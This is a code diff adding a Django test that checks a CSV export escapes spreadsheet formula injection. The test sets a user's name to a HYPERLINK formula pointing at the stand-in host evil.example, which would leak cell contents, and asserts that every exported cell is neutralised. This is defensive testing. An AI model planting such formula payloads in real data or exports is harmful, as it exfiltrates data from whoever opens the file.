@@ -304,3 +304,21 @@ def test_another_members_figures_are_404(world: World, clinic) -> None:
         assert bearer_client(user).get(member_url(member)).status_code == 404
     bad = bearer_client(world.pt.user).get(member_url(world.member), {"from": "soon"})
     assert bad.status_code == 400 and "from" in bad.json()["errors"]
+
+
+@pytest.mark.django_db
+def test_csv_cells_that_look_like_formulas_are_text(world: World, clinic) -> None:
+    user = world.member.user
+    user.first_name, user.last_name = '=HYPERLINK("http://evil.example/?"&A1,"x")', "-1+2"
+    user.save(update_fields=["first_name", "last_name"])
+    clinic.name = "@SUM(1+1)"
+    clinic.save(update_fields=["name"])
+    response = bearer_client(world.coordinator).get(URL, {"format": "csv"})
+    assert "no-store" in response["Cache-Control"]
+    rows = read_csv(response)
+    mine = next(r for r in rows if r["member_id"] == str(world.member.pk))
+    assert mine["name"].startswith("'=HYPERLINK(")
+    assert mine["template"] == "'@SUM(1+1)"
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
